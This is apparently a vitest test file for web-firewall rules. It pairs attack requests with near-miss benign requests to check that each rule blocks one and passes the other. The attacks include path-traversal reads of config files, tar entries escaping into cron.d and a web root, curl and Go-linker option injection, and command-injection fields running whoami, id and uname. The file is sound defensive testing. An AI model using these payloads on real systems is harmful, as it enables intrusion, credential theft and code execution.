/**
 * Bundled rules of rev 2026-12-10r (issue 18, session 27): classes held-out-20's misses showed after its blind measurement,
 * kept only where the class also catches misses of the earlier held-out sets (13-19) and hits no benign request. Each
 * fires on its attack, sent the way such an exploit sends it, and stays quiet on the benign request closest to it: a
 * bundle of the application's own assets, a theme archive whose entries stay inside, a project's relative include of
 * its web.config transform, a curl command quoted in a support ticket, Go build flags that set a version, and a
 * router's ping setting or a command palette entry that is only a word.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const upload = (name: string, type: string, content: string): RequestSpec => ({
  method: 'POST',
  url: '/admin/plugins/upload',
  headers: [...BROWSER, ['Content-Type', 'multipart/form-data; boundary=----WebKitFormBoundaryr7']],
  body: `------WebKitFormBoundaryr7\r\nContent-Disposition: form-data; name="plugin"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n------WebKitFormBoundaryr7--\r\n`,
});
/** A ustar header's first bytes: the entry name NUL-padded, then the octal mode field. */
const tarEntry = (name: string): string => `${name}${'\x00'.repeat(100 - name.length)}0000644\x000001750\x000001750\x00`;

const CASES: RuleCase[] = [
  [9000473, 'block', 'encoded dot-dot steps to App_Config/ConnectionStrings.config in a bundle list', get('/-/speak/v1/bundles/bundle.js?f=/-/speak/v1/assets/%2e%2e/%2e%2e/%2e%2e/%2e%2e/App_Config/ConnectionStrings.config'), get('/-/speak/v1/bundles/bundle.js?f=/-/speak/v1/assets/lib/require.js,/-/speak/v1/assets/../business/app.js')],
  [9000473, 'block', 'a tar entry climbing into /etc/cron.d', upload('plugin-3.6.tar', 'application/x-tar', tarEntry('../../../../../etc/cron.d/ynz7f')), upload('plugin-3.6.tar', 'application/x-tar', tarEntry('plugin/cron.d/cleanup.sh'))],
  [9000473, 'block', 'a tar entry climbing into a web root as a PHP file', upload('theme-6.5.tar', 'application/x-tar', tarEntry('../../../../var/www/html/wadpq.php')), upload('theme-6.5.tar', 'application/x-tar', tarEntry('theme/www/html/index.php'))],
  [9000473, 'block', 'an upload name walking to authorized_keys', upload('../../../../root/.ssh/authorized_keys', 'text/plain', 'ssh-ed25519 AAAA x'), upload('authorized_keys.txt', 'text/plain', 'see ../docs/ssh.md')],
  [9000473, 'block', 'a JSON file field walking to web.config', postJson('/api/v2/simulation', '{"response":{"bodyFile":"..\\\\..\\\\..\\\\inetpub\\\\web.config"}}'), postJson('/api/build', '{"transform":"../config/web.Release.config","project":"../src/App.csproj"}')],
  [9000373, 'block', 'curl -K naming a remote config at a value start', get('/tools/download?src=-K%20https://img.example.net/jvi3.cfg'), get('/tools/download?src=https://img.example.net/docs/curl-K-option.html')],
  [9000344, 'block', 'an output option after a URL writing a PHP file (9000373 rev 1, now 9000344)', postForm('/admin/remote-media', 'feed=https%3A%2F%2Fsync11.example.io%2Fxo.txt+-o+%2Fvar%2Fwww%2Fhtml%2F4np9k.php'), postForm('/support/ticket', 'body=I+ran+curl+https%3A%2F%2Fapi.example.com%2Fv1%2Fstatus+-o+report.json+and+got+a+404')],
  [9000373, 'block', 'Go build flags naming a shell as the external linker', get('/file/download', [['ldflags', `-X main.key=td0cJ9Vv -extldflags '-c "id"' -extld=sh`]]), get('/file/download', [['ldflags', '-s -w -X main.version=1.4.2 -extldflags "-static"']])],
  [9000374, 'block', 'a router form whose sysCmd is whoami', postForm('/boafrm/formSysCmd', 'submit-url=/syscmd.htm&sysCmd=whoami&apply=Apply'), postForm('/boafrm/formSysCmd', 'submit-url=/syscmd.htm&sysCmd=ping+-c+4+192.168.1.1&apply=Apply')],
  [9000374, 'block', 'a plugin setting array whose _CMD entry is id', postForm('/php/server/util.php', 'function=savesettings&settings=%5B%5B%22Plugins%22%2C%22NMAPDEV%22%2C%22NMAPDEV_CMD%22%2C%22string%22%2C%22id%22%5D%5D'), postForm('/php/server/util.php', 'function=savesettings&settings=%5B%5B%22Plugins%22%2C%22NMAPDEV%22%2C%22NMAPDEV_CMD%22%2C%22string%22%2C%22python3+%2Fapp%2Fplugins%2Fnmap.py%22%5D%5D')],
  [9000374, 'block', 'a JSON runCommand that is uname -a', postJson('/api/agent/task', '{"name":"t1","runCommand":"uname -a"}'), postJson('/api/palette', '{"label":"Show identity","paletteCommand":"identity"}')],
];

describe("bundled rules for held-out-20's exploit classes that transfer (rev 2026-12-10r)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
